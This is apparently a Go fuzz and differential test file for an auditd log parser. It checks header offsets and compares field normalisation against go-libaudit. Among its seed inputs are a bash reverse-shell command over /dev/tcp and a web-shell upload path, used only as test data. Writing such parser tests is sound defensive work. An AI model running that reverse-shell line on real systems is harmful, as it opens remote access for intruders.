package auditd

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/elastic/go-libaudit/v2/auparse"
)

// seedLines adds the lines of the project's auditd fixtures to a fuzzer.
func seedLines(f *testing.F) {
	files, _ := filepath.Glob("../../testdata/auditd/*.log")
	for _, p := range files {
		b, err := os.ReadFile(p)
		if err != nil {
			f.Fatal(err)
		}
		for _, l := range bytes.Split(b, []byte("\n")) {
			if len(l) < 4096 {
				f.Add(string(l))
			}
		}
	}
}

// FuzzHeader: the header parser never panics and its offsets stay inside
// the line.
func FuzzHeader(f *testing.F) {
	seedLines(f)
	lp := newLineParser()
	f.Fuzz(func(t *testing.T, line string) {
		h, err := lp.parse([]byte(line))
		if err != nil {
			return
		}
		if h.Start < 0 || h.Body < h.Start || h.Enriched < h.Body || h.Enriched > len(line) {
			t.Fatalf("offsets start=%d body=%d enriched=%d len=%d", h.Start, h.Body, h.Enriched, len(line))
		}
		// The sniffer takes a file for an audit log by RecordLine: a line
		// the parser reads as a record is one it accepts, and the other
		// way round (record text inside another log's line is neither).
		if !RecordLine([]byte(line)) {
			t.Fatalf("parsed as a record, but RecordLine refuses it: %q", line)
		}
		if h.Sec > maxSec {
			t.Fatalf("time %d past the bound", h.Sec)
		}
	})
}

// encode writes a string the way the kernel does (audit_log_untrustedstring):
// quoted, or upper-case hex when it holds a quote, a space, a control or a
// non-ASCII byte.
func encode(s string) string {
	for i := 0; i < len(s); i++ {
		if c := s[i]; c == '"' || c < 0x21 || c > 0x7e {
			return fmt.Sprintf("%X", s)
		}
	}
	return `"` + s + `"`
}

// FuzzFieldsDifferential proves the fast field scanner and normalizer equal
// to go-libaudit's AuditMessage.Data() on every record the kernel can write
// for the hot-path types: EXECVE argv, PATH name, CWD, SYSCALL exe and
// PROCTITLE, with arbitrary string values.
func FuzzFieldsDifferential(f *testing.F) {
	f.Add("sh", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1")
	f.Add("/bin/echo", "caf\xc3\xa9", "\x1b[31mred")
	f.Add("it's", `say "hi"`, "tab\there")
	f.Add("/var/www/html/uploads/shell.php", "a=b", "(null)")
	f.Fuzz(func(t *testing.T, a, b, c string) {
		// The kernel cannot log NUL inside an argument or a path; and
		// go-libaudit drops empty values and values that are only "?".
		for _, s := range []string{a, b, c} {
			if s == "" || strings.ContainsRune(s, 0) || len(s) > 2000 {
				return
			}
		}
		hdr := "msg=audit(1700000000.123:42): "
		lines := []string{
			"type=SYSCALL " + hdr + "arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=1 pid=2 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm=\"sh\" exe=" + encode(a) + " key=(null)",
			"type=EXECVE " + hdr + "argc=3 a0=" + encode(a) + " a1=" + encode(b) + " a2=" + encode(c),
			"type=CWD " + hdr + "cwd=" + encode(b),
			"type=PATH " + hdr + "item=0 name=" + encode(c) + " inode=1 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
			"type=PROCTITLE " + hdr + "proctitle=" + fmt.Sprintf("%X", a+"\x00"+b+"\x00"+c),
		}
		evs := decodeLines(testInput("fuzz"), &Options{}, lines)
		if len(evs) != 1 {
			t.Fatalf("got %d events", len(evs))
		}
		ev := evs[0]
		want := func(line, key string) string {
			m, err := auparse.ParseLogLine(line)
			if err != nil {
				t.Skipf("go-libaudit rejects the line: %v", err)
			}
			data, err := m.Data()
			if err != nil {
				t.Skipf("go-libaudit Data: %v", err)
			}
			return data[key]
		}
		// go-libaudit trims quotes and spaces from both ends of every value
		// (trimQuotesAndSpace), which loses a leading or trailing quote that
		// the kernel logged as is; compare with that loss applied to ours.
		trim := func(s string) string { return strings.Trim(s, `'" `) }
		check := func(what, got, want string) {
			if want == "" && trim(got) == "" {
				return
			}
			if trim(got) != want && got != want {
				t.Errorf("%s: scanner %q, go-libaudit %q", what, got, want)
			}
		}
		check("exe", ev.Exe, want(lines[0], "exe"))
		if ev.Syscall != want(lines[0], "syscall") || ev.Arch != want(lines[0], "arch") {
			t.Errorf("syscall %s/%s, go-libaudit %s/%s", ev.Arch, ev.Syscall, want(lines[0], "arch"), want(lines[0], "syscall"))
		}
		if len(ev.Args) != 3 {
			t.Fatalf("args %q", ev.Args)
		}
		for i := 0; i < 3; i++ {
			check(fmt.Sprintf("a%d", i), ev.Args[i], want(lines[1], fmt.Sprintf("a%d", i)))
		}
		check("cwd", ev.Cwd, want(lines[2], "cwd"))
		if len(ev.Paths) != 1 {
			t.Fatalf("paths %v", ev.Paths)
		}
		check("name", ev.Paths[0].Name, want(lines[3], "name"))
		if ev.UID.N != 33 || !ev.UID.Set || ev.AUID.Set || want(lines[0], "auid") != "unset" {
			t.Errorf("ids uid=%v auid=%v", ev.UID, ev.AUID)
		}
	})
}

// decodeLines runs auditd lines, numbered from 1, through reassembly and
// normalization.
func decodeLines(in *Input, opts *Options, lines []string) []*Event {
	d := newAuditDecoder(in, opts)
	var evs []*Event
	for i, l := range lines {
		evs, _ = d.Line(Pos{File: in.Path, Line: i + 1}, []byte(l), evs)
	}
	return d.Flush(evs)
}

// testInput is an input named path whose errors the test can read.
func testInput(path string) *Input {
	return &Input{Path: path, Errors: &ErrorList{}, Malformed: new(int)}
}
